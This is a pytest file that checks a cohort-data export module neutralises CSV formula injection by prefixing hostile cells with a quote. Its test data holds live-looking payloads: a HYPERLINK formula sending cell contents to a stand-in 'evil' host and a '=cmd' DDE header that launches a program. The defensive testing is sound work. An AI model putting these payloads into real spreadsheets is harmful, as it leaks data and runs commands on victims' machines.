"""Formula-injection-safe CSV: hostile cells are neutralised, numbers and quoting survive."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from precimed.cohort.export import safe_cell, to_parquet_bytes, to_safe_csv

HOSTILE = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1",
           "\r=1", "\n=1", "＝1", "ok, \"quoted\"", "a\r\nb", "", None]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("value", HOSTILE[:8])
def test_every_formula_start_is_prefixed(value: str) -> None:
    assert safe_cell(value) == "'" + value


def test_csv_round_trip_keeps_rows_and_numbers() -> None:
    frame = pd.DataFrame({"site": HOSTILE, "P(x)": [-0.5 + i / 10 for i in range(len(HOSTILE))],
                          "row": range(len(HOSTILE))})
    frame["=cmd|' /C calc'!A0"] = "-x"  # a hostile header too
    rows = _cells(to_safe_csv(frame))
    assert rows[0] == ["site", "P(x)", "row", "'=cmd|' /C calc'!A0"]
    assert len(rows) == 1 + len(HOSTILE)  # embedded CR/LF did not split rows
    for original, row in zip(HOSTILE, rows[1:], strict=True):
        text = row[0]
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
        if original:
            assert text.lstrip("'") == original
        assert row[3] == "'-x"
    assert [float(r[1]) for r in rows[1:]] == pytest.approx(frame["P(x)"].tolist())


def test_parquet_bytes_round_trip() -> None:
    frame = pd.DataFrame({"a": ["=1", None], "b": [1.5, 2.0]})
    back = pd.read_parquet(io.BytesIO(to_parquet_bytes(frame)))
    assert back["a"].tolist()[0] == "=1" and back["b"].tolist() == [1.5, 2.0]
